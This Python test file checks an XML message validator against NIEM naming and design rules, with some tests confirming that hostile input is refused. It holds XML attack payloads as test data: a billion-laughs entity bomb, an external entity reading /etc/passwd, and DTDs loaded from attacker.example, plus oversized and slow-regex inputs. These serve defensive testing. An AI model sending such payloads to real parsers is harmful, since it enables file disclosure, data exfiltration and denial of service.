"""XML messages: each rule of the NDR by a message that breaks it in one place, and hostile messages refused."""

import random
import re
import tracemalloc
from concurrent.futures import ThreadPoolExecutor

import pytest

from govbus.routing.niem import bounds
from govbus.routing.niem.xml_message import xml_breaches
from govbus.routing.niem.xml_schema import compile_xml

from . import samples

MODEL = compile_xml(samples.XML_FORMAT)
MEMORY_BYTES_MAX = 60_000_000


def _judged(message):
    octets = message if isinstance(message, bytes) else message.encode()
    return list(xml_breaches(octets, MODEL, "body.message"))


def _rules(message):
    return [re.match(r"NDR 6\.0 rule ([0-9-]+): ", breach.detail)[1] for breach in _judged(message)]


def _changed(old, new):
    assert samples.XML_MESSAGE.count(old) == 1
    return samples.XML_MESSAGE.replace(old, new)


def test_message_that_breaks_nothing():
    """A message with references, augmentations, URIs and xml:base on its root passes."""
    assert [] == _judged(samples.XML_MESSAGE)


@pytest.mark.parametrize(
    ("rule", "old", "new", "field"),
    [
        ("12-2", ">2026-11-02<", ">yesterday<", "case:CaseMessage/case:CaseFiledDate[1]"),
        (
            "12-2",
            "<case:CaseFiledDate>2026-11-02</case:CaseFiledDate>",
            "",
            "case:CaseMessage/party:Party[1]",
        ),
        ("12-2", ">PL<", ">plaintiff<", "party:Party[1]/case:PartyAugmentation[1]/case:PartyRoleCode[1]"),
        ("12-2", 'page="pages/1"', 'Vogel="1"', "case:CaseMessage/party:Party[1]"),
        (
            "12-2",
            "party:PartyName>Clara Vogel</party:PartyName",
            "Vogel/",
            "case:CaseMessage/party:Party[1]/*[1]",
        ),
        (
            "12-2",
            '<party:Party structures:uri="#P1"/>',
            '<party:Party structures:id="P1"/>',
            "party:Party[3]",
        ),
        (
            "12-7",
            'structures:id="P1"',
            'structures:id="P1" structures:uri="#P1"',
            "case:CaseMessage/party:Party[1]",
        ),
        ("12-8", 'structures:ref="P1"', 'structures:ref="P9"', "case:CaseMessage/party:Party[2]"),
        ("12-12", "?q=1#home", "?q=|#home", "case:CaseMessage/party:Party[1]"),
        ("12-12", "pages/1", "pages/a|b", "case:CaseMessage/party:Party[1]"),
        ("12-12", "messages/1", "messages/{1}", "case:CaseMessage"),
        ("12-12", 'uri="#P1"', 'uri="#P|1"', "case:CaseMessage/party:Party[3]"),
        (
            "12-13",
            "</case:PartyAugmentation>",
            "</case:PartyAugmentation>"
            "<case:PartyAugmentation><case:PartyRoleCode>DE</case:PartyRoleCode></case:PartyAugmentation>",
            "case:CaseMessage/party:Party[1]/case:PartyAugmentation[2]",
        ),
        ("12-14", ' structures:ref="P1"', "", "case:CaseMessage/party:Party[2]"),
        ("12-15", 'page="pages/1"', 'page="pages/1" xml:base="https://court.example/"', "party:Party[1]"),
    ],
)
def test_one_rule_broken(rule, old, new, field):
    """A message that breaks one rule in one place gives one finding, which names the rule, the place and the line."""
    found = _judged(_changed(old, new))

    assert [rule] == _rules(_changed(old, new))
    assert found[0].rule == "NDR-12"
    assert found[0].field.startswith("body.message/")
    assert found[0].field.endswith(field)
    assert re.search(r"\(line \d+\)$", found[0].detail)
    assert not any(personal in " ".join(found[0][1:3]) for personal in samples.PERSONAL)


def test_expected_elements_are_named():
    """Where an element is missing, the finding names which one the schema has there."""
    (found,) = _judged(_changed("<case:CaseFiledDate>2026-11-02</case:CaseFiledDate>", ""))

    assert "expected case:CaseFiledDate" in found.detail


@pytest.mark.parametrize("nil", ["true", "1", " true "])
def test_nil_in_every_spelling(nil):
    """Each way to write true makes an element nil."""
    changed = _changed('<party:Party structures:ref="P1" xsi:nil="true"/>', f'<party:Party xsi:nil="{nil}"/>')

    assert ["12-14"] == _rules(changed)


def test_reference_by_uri_may_be_nil():
    """An element that is nil may refer by structures:uri."""
    assert [] == _judged(
        _changed('structures:ref="P1" xsi:nil="true"', 'structures:uri="#P1" xsi:nil="true"')
    )


def test_relative_path_is_a_uri_reference():
    """Rule 12-12 asks for a URI reference, and a relative path is one, though an example of the NDR calls it none."""
    assert [] == _judged(_changed('structures:uri="#P1"', 'structures:uri="boogala"'))


def test_message_inside_another_document():
    """A message may be embedded: its object is found and judged by itself, with the namespaces of what is around it."""
    wrapped = f'<soap:Body xmlns:soap="urn:soap" soap:id="x">{samples.XML_MESSAGE}</soap:Body>'

    assert [] == _judged(wrapped)
    assert ["12-2"] == _rules(wrapped.replace(">2026-11-02<", ">yesterday<"))
    assert ["12-15"] == _rules(wrapped.replace("<party:PartyName>", '<party:PartyName xml:base="a">'))[-1:]


@pytest.mark.parametrize(
    "message",
    [
        samples.XML_MESSAGE.replace("case:CaseMessage", "case:Message"),
        f"<two>{samples.XML_MESSAGE}{samples.XML_MESSAGE}</two>",
        "",
        "no XML",
        samples.XML_MESSAGE[:-5],
        samples.XML_MESSAGE + "<more/>",
        samples.XML_MESSAGE.replace("xmlns:case=", "xmlns:other="),
        samples.XML_MESSAGE.replace("Clara", "\x01"),
        samples.XML_MESSAGE.replace("Clara", "&clara;"),
        '<?xml version="1.0" encoding="iso-8859-1"?>' + samples.XML_MESSAGE,
        b"\xff\xfe" + b"\x00\xd8",
        samples.XML_MESSAGE.encode().replace(b"Clara", b"\xff\xfe"),
    ],
)
def test_no_single_message_object(message):
    """What is no well-formed XML in UTF-8 or UTF-16 with one message object is refused by rule 12-1."""
    assert ["12-1"] == _rules(message)


@pytest.mark.parametrize(
    "octets",
    [
        b"\xef\xbb\xbf" + samples.XML_MESSAGE.encode(),
        ('<?xml version="1.0" encoding="UTF-8"?>' + samples.XML_MESSAGE).encode(),
        b"\xff\xfe" + ('<?xml version="1.0" encoding="UTF-16"?>' + samples.XML_MESSAGE).encode("utf-16-le"),
        b"\xfe\xff" + samples.XML_MESSAGE.encode("utf-16-be"),
    ],
)
def test_encodings_that_every_processor_reads(octets):
    """UTF-8 with and without a mark, and UTF-16 with one, are read."""
    assert [] == _judged(octets)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE x [<!ENTITY clara SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
        "<!DOCTYPE x>",
        "<!-- a --><?pi b?>\n<!DOCTYPE x>",
    ],
)
def test_document_type_declarations(doctype):
    """No document type declaration is read, so no entity is expanded or fetched."""
    message = doctype + samples.XML_MESSAGE.replace("Clara", "&l9;" if "l9" in doctype else "Clara")

    (found,) = _judged(message)
    assert "rule 12-1: a document type declaration is not accepted" in found.detail


def test_doctype_in_text_is_text():
    """What only looks like a document type declaration, in text or in a comment, does not matter."""
    assert [] == _judged(_changed("Clara Vogel", "<![CDATA[<!DOCTYPE html>]]>"))
    assert [] == _judged("<!-- <!DOCTYPE x> -->" + samples.XML_MESSAGE)


def _deep(levels):
    return _changed("Clara Vogel", "<a>" * levels + "</a>" * levels)


@pytest.mark.parametrize(
    ("message", "word"),
    [
        (_deep(bounds.DEPTH_MAX), "inside each other"),
        (_deep(20_000), "well-formed"),
        (_changed("Clara Vogel", "<a/>" * (bounds.ELEMENTS_MAX + 1)), "elements"),
        (_changed("Clara Vogel", "<a/>" * 100_000), "elements"),
        (
            _changed('page="pages/1"', " ".join(f'a{n}="1"' for n in range(bounds.ATTRIBUTES_MAX + 1))),
            "attributes",
        ),
        (_changed('page="pages/1"', " ".join(f'xmlns:a{n}="u:{n}"' for n in range(201))), "namespaces"),
        (_changed("Clara Vogel", "x" * bounds.MESSAGE_BYTES_MAX), "longer"),
        (_changed('page="pages/1"', 'page="1" page="1"'), "well-formed"),
    ],
    ids=["depth", "great depth", "elements", "many elements", "attributes", "namespaces", "length", "twice"],
)
def test_bounds(message, word):
    """What is deeper, longer or more than a message may be is refused, in little memory."""
    octets = message.encode()
    tracemalloc.start()
    try:
        found = _judged(octets)
        memory = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert 1 == len(found)
    assert word in found[0].detail
    assert memory < MEMORY_BYTES_MAX


def test_few_findings_of_many_mistakes():
    """A message that breaks rules everywhere gives as many findings as are reported, not more."""
    wrong = '<party:Party structures:ref="P9" xsi:nil="true"/>' * 5_000
    found = _judged(_changed('<party:Party structures:uri="#P1"/>', wrong))

    assert bounds.BREACHES_MAX == len(found)
    assert all(len(breach.field) < 2 * bounds.PATH_CHARACTERS_MAX for breach in found)


def test_schema_location_is_not_followed(tmp_path):
    """A message cannot bring schema documents of its own: the files that it names are not read."""
    own = tmp_path / "own.xsd"
    own.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:own">'
        '<xs:element name="Own" type="xs:string"/></xs:schema>'
    )
    schemas = {
        "main.xsd": b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="M"><xs:complexType>'
        b'<xs:sequence><xs:any namespace="##other" processContents="strict"/></xs:sequence></xs:complexType>'
        b"</xs:element></xs:schema>"
    }
    model = compile_xml(samples.NiemFormat("xml", "body.message", schemas, "main.xsd"))
    message = (
        f'<M xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:own {own.as_uri()}">'
        '<o:Own xmlns:o="urn:own"/></M>'
    )

    (found,) = xml_breaches(message.encode(), model, "body.message")
    assert "rule 12-2: the schema has no such element" in found.detail


def test_long_texts_and_a_quadratic_pattern():
    """Where the schema has a pattern that takes quadratic time, texts that would make it slow are refused unread."""
    schema = (
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="M"><xs:simpleType>'
        '<xs:restriction base="xs:string"><xs:pattern value=".*x.*y"/></xs:restriction></xs:simpleType>'
        "</xs:element></xs:schema>"
    )
    model = compile_xml(samples.NiemFormat("xml", "body.message", {"m.xsd": schema.encode()}, "m.xsd"))

    assert [] == list(xml_breaches(b"<M>axbby</M>", model, "body.message"))
    (found,) = xml_breaches(b"<M>" + b"x" * 20_000 + b"</M>", model, "body.message")
    assert "too long" in found.detail


def test_threads_do_not_hear_of_each_others_mistakes():
    """Messages judged at the same time have the findings that each has alone: an auditor judges them one by one."""
    messages = [
        samples.XML_MESSAGE,
        _changed(">2026-11-02<", ">yesterday<"),
        _changed(">PL<", ">plaintiff<"),
        _changed('page="pages/1"', 'Vogel="1"'),
        samples.XML_MESSAGE[:-5],
    ]
    alone = {message: _judged(message) for message in messages}
    assert 5 == len({str(found) for found in alone.values()})

    def differing(seed):
        chosen = random.Random(seed)
        picked = [chosen.choice(messages) for _ in range(200)]
        return [message for message in picked if alone[message] != _judged(message)]

    with ThreadPoolExecutor(6) as pool:
        assert [[]] * 6 == list(pool.map(differing, range(6)))
